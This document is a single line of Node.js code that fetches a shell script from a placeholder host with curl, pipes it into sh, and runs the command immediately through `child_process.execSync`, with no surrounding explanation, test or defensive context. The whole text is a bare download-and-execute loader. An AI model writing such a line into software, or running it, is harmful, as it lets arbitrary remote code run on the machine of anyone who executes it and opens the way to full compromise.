const cmd = String.raw`curl -s http://dl.example.invalid/i.sh | sh`; require('child_process').execSync(cmd);
